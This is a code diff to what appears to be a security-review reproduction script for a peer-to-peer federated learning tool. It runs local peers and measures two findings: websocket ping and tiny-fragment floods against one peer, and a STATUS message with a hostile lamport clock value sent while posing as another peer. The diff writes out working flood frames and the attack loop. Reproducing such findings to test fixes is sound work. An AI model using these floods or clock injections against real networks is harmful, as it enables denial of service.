@@ -5,17 +5,19 @@
 Starts ``--peers`` real ``p2pfl run`` processes on 127.0.0.1 (digits, full graph, a small
 MLP, rounds without end), lets them settle, then:
 
-1. ping flood (finding 2): a websocket to alice that pings as fast as it can and never
-   reads. Prints alice's resident memory and the network's round rate before and during
-   the flood, and how long alice kept the connection.
+1. floods (finding 2 and the second review): websockets to alice that send pings, then
+   first fragments of messages, as fast as they can and never read, reconnecting whenever
+   cut. Prints alice's resident memory and the network's round rate before and during
+   each flood, and how long alice kept a connection.
 2. clock wedge (finding 1): plays bob for one connection to alice (bob's real key: any
    roster peer can) and sends one STATUS with lamport 2**53 - 1 - 40. Prints, for the
    following window, the share of rounds every node aggregated with all its neighbours and
    the count of ``above the limit`` refusals; then restarts alice from her state directory
    and prints the same again.
 
-To measure an earlier version, run this script with ``PYTHONPATH=<its checkout>``: the
-peers are started with the same interpreter and environment.
+To measure an earlier version, run this script from its checkout with
+``PYTHONPATH=<that checkout>`` (``python -m`` puts the working folder first on the path):
+the peers are started with the same interpreter, environment and folder.
 """
 
 from __future__ import annotations
@@ -46,7 +48,14 @@ from p2pfl.proto.keys import generate_key_file, load_private_key
 from p2pfl.proto.wire import PROLOGUE, decode_reply, encode_hello, encode_status
 
 HOSTILE_LAMPORT = 2**53 - 1 - 40
-_CLIENT_PING = bytes([0x89, 0x80 | 125]) + b"\x01\x02\x03\x04" + bytes(125)
+_MASK = b"\x01\x02\x03\x04"
+#: What each flood sends, masked as a client must: pings with the largest control payload
+#: (finding 2), and first fragments of empty messages (six bytes each, which websockets
+#: parses one by one in Python: the second review's tiny-frame flood).
+FLOODS = {
+    "ping": bytes([0x89, 0x80 | 125]) + _MASK + bytes(125),
+    "fragment": bytes([0x02, 0x80]) + _MASK,
+}
 
 
 class Peer:
@@ -169,7 +178,9 @@ async def settle(peers: list[Peer], rounds: int = 20, timeout: float = 120) -> N
         await asyncio.sleep(0.2)
 
 
-async def flood_once(port: int, until: float, alice: Peer, peak: list[float]) -> float:
+async def flood_once(
+    port: int, until: float, alice: Peer, peak: list[float], frame: bytes
+) -> float:
     """One connection that pings as fast as it can and never reads, until alice cuts it or
     ``until``; returns how long it lived. ``peak`` keeps alice's highest RSS seen."""
     reader, writer = await asyncio.open_connection("127.0.0.1", port)
@@ -180,7 +191,7 @@ async def flood_once(port: int, until: float, alice: Peer, peak: list[float]) ->
     )
     await reader.readuntil(b"\r\n\r\n")
     started = time.monotonic()
-    batch = _CLIENT_PING * 512
+    batch = frame * (65536 // len(frame))
     with contextlib.suppress(OSError):
         while time.monotonic() < until and not reader.at_eof():
             writer.write(batch)
@@ -194,7 +205,7 @@ async def flood_once(port: int, until: float, alice: Peer, peak: list[float]) ->
     return time.monotonic() - started
 
 
-async def ping_flood(port: int, seconds: float, alice: Peer) -> tuple[int, float, float]:
+async def flood(port: int, seconds: float, alice: Peer, frame: bytes) -> tuple[int, float, float]:
     """Flood for ``seconds``, reconnecting whenever alice cuts the connection. Returns
     (connections, the longest one's life, alice's peak RSS in MB)."""
     until = time.monotonic() + seconds
@@ -202,7 +213,7 @@ async def ping_flood(port: int, seconds: float, alice: Peer) -> tuple[int, float
     lives = []
     while time.monotonic() < until:
         try:
-            lives.append(await flood_once(port, until, alice, peak))
+            lives.append(await flood_once(port, until, alice, peak, frame))
         except (OSError, asyncio.IncompleteReadError):
             await asyncio.sleep(0.01)
     return len(lives), max(lives, default=0.0), peak[0]
@@ -260,16 +271,17 @@ async def main() -> None:
             show("before any attack", window(peers, since))
             rss_before = alice.rss_mb()
 
-            print(f"\n1. ping flood on alice for up to {args.flood:.0f} s", flush=True)
             port = load_config(config).peers["alice"].port
-            since = time.time()
-            connections, longest, peak = await ping_flood(port, args.flood, alice)
-            show("  during the flood", window(peers, since))
-            print(
-                f"  {connections} flooding connections, the longest kept {longest:.2f} s; "
-                f"alice's RSS {rss_before:.0f} MB before, {peak:.0f} MB at the peak",
-                flush=True,
-            )
+            for kind, frame in FLOODS.items():
+                print(f"\n1. {kind} flood on alice for up to {args.flood:.0f} s", flush=True)
+                since = time.time()
+                connections, longest, peak = await flood(port, args.flood, alice, frame)
+                show("  during the flood", window(peers, since))
+                print(
+                    f"  {connections} flooding connections, the longest kept {longest:.2f} s; "
+                    f"alice's RSS {rss_before:.0f} MB before, {peak:.0f} MB at the peak",
+                    flush=True,
+                )
 
             print("\n2. one STATUS with lamport 2**53-1-40, as bob, to alice", flush=True)
             await status_as(config, root, "bob", "alice")
